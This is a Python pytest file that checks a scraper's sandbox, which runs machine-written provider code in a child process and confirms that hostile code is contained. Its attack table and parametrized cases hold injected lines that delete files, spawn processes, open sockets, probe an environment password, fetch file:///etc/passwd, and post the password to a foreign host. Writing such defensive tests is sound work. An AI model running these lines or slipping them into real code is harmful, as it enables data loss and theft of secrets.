"""Row 1: what ``learn`` wrote is tried in a child process: no line of it runs here, and what the child says is looked at."""

import builtins
import json
import sys
from pathlib import Path

import pytest

from scraper.authoring import trial
from scraper.authoring.trace import NotLearnt
from scraper.contract import PASSWORD
from scraper.core.errors import CloudfilmError, SiteUnreachable
from scraper.core.link import ShareLink
from scraper.core.model import WadoUri
from scraper.testing import first_of
from tests.security.test_hostile_addresses import answer, server
from tests.security.test_hostile_bounds import talking

only_linux = pytest.mark.skipif(sys.platform != "linux", reason="the fences are the kernel's")
HEAD = "from __future__ import annotations\n{before}\nfrom scraper.contract import *\n"
PROVIDER = """
class Reply1(Reply):
    uid: str

class Site(Provider):
    name = "site"
    route = r"/x"
    asks = (PASSWORD,)

    async def discover(self, link: ShareLink, session: Session) -> AsyncIterator[Series]:
        {inside}
        first = await session.post(
            link.join("/list"), json={{"password": session.answer(PASSWORD)}}, headers={{"X-A": "b"}}, reply=Reply1
        )
        yield Series("1.2", "1.3", instances=(Instance(first.uid, WadoUri(link.join("/i"), headers={{"Token": "t"}})),))
"""


def written(tmp_path: Path, before: str = "", inside: str = "pass") -> Path:
    path = tmp_path / "site.py"
    path.write_text(HEAD.format(before=before) + PROVIDER.format(inside=inside), encoding="utf-8")
    return path


async def tried(path: Path, port: int, spool: Path) -> list:
    async with talking(spool, port, give_up_s=30.0, answers={"password": "film-pass-9"}) as session:
        provider = trial.trial_of(path, "site", r"/x", (PASSWORD,))
        return [found async for found in provider.discover(ShareLink(f"http://film.test:{port}/x"), session)]


def site(heads: list[bytes], body: bytes = b'{"uid": "1.2.3"}'):
    async def handler(head: bytes, writer) -> None:
        heads.append(head)
        writer.write(answer(body, "Content-Type: application/json"))

    return handler


async def test_hostile_1_a_trial_speaks_through_the_session(tmp_path):
    heads: list[bytes] = []
    async with server(site(heads)) as port:
        (series,) = await tried(written(tmp_path), port, tmp_path / "spool")
    (instance,) = series.instances
    assert isinstance(instance.source, WadoUri)
    assert (series.study_instance_uid, series.series_instance_uid, instance.sop_instance_uid) == ("1.2", "1.3", "1.2.3")
    assert dict(instance.source.headers) == {"Token": "t"}
    assert len(heads) == 1
    assert b"POST /list" in heads[0]
    assert b"x-a: b" in heads[0].lower()


ATTACKS = {
    "a file": "open({target!r}, 'w').write('x')",
    "a file's removal": "__import__('os').remove({stored!r})",
    "a program": "__import__('subprocess').run(['touch', {target!r}], check=True)",
    "a socket": "__import__('socket').create_connection(('127.0.0.1', {port}))",
    "our builtins": "__import__('builtins').__dict__.__setitem__('PWNED', 1)",
    "the user's environment": "(_ for _ in ()).throw(KeyError) if not __import__('os').environ.get('CLOUDFILM_PASSWORD') else 0",
    "an end": "__import__('os')._exit(0)",
}


@only_linux
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("place", first_of(["before", "inside"]))
async def test_hostile_1_what_is_tried_reaches_nothing(attack, place, tmp_path, monkeypatch):
    """As if the check of the source had let it through."""
    monkeypatch.setenv("CLOUDFILM_PASSWORD", "film-pass-9")
    stored, target = tmp_path / "kept", tmp_path / "made"
    stored.write_text("as it was")
    heads: list[bytes] = []
    async with server(site(heads)) as port:
        line = ATTACKS[attack].format(target=str(target), stored=str(stored), port=port)
        path = written(tmp_path, **{place: line})
        if attack == "our builtins":
            await tried(path, port, tmp_path / "spool")
        else:
            with pytest.raises(NotLearnt):
                await tried(path, port, tmp_path / "spool")
            assert heads == []
    assert not target.exists()
    assert stored.read_text() == "as it was"
    assert not hasattr(builtins, "PWNED")
    assert not [name for name in sys.modules if name.startswith("cloudfilm_file_site")]


@only_linux
@pytest.mark.parametrize(
    ("inside", "error"),
    [
        ("await session.get('http://192.168.77.1/')", CloudfilmError),
        ("await session.get('file:///etc/passwd')", CloudfilmError),
        ("await session.post('http://other.test/', data=session.answer(PASSWORD).encode())", CloudfilmError),
        ("await session.get(link.join('/a'), headers={'A': 1})", NotLearnt),
        ("session.answer(PHONE)", NotLearnt),
        ("[await session.get(link.join('/a')) for _ in range(1000)]", NotLearnt),
        ("import asyncio; await asyncio.sleep(1)", NotLearnt),
    ],
    ids=["inside", "a scheme", "an answer abroad", "a header that is a number", "another answer", "no end", "a wait"],
)
async def test_hostile_1_what_it_asks_for_is_judged_by_the_door(inside, error, tmp_path):
    heads: list[bytes] = []
    async with server(site(heads)) as port:
        with pytest.raises(error) as caught:
            await tried(written(tmp_path, inside=inside), port, tmp_path / "spool")
    assert not isinstance(caught.value, SiteUnreachable)
    assert all(b"film-pass-9" not in head for head in heads)
    assert len(heads) <= trial.MOST_REQUESTS


LISTS = {
    "no list": 3,
    "a key too few": [{"study": "1", "uid": "2", "key": "", "expected": None}],
    "a number in place of a text": [{"study": 1, "uid": "2", "key": "", "expected": None, "instances": []}],
    "a source of another kind": [
        {"study": "1", "uid": "2", "key": "", "expected": None, "instances": [{"uid": "1", "path": "/etc/passwd"}]}
    ],
}


@pytest.mark.parametrize("name", LISTS)
def test_hostile_1_what_a_trial_lists_is_held_against_its_form(name):
    with pytest.raises(TypeError):
        trial._listed(json.dumps(LISTS[name]).encode())
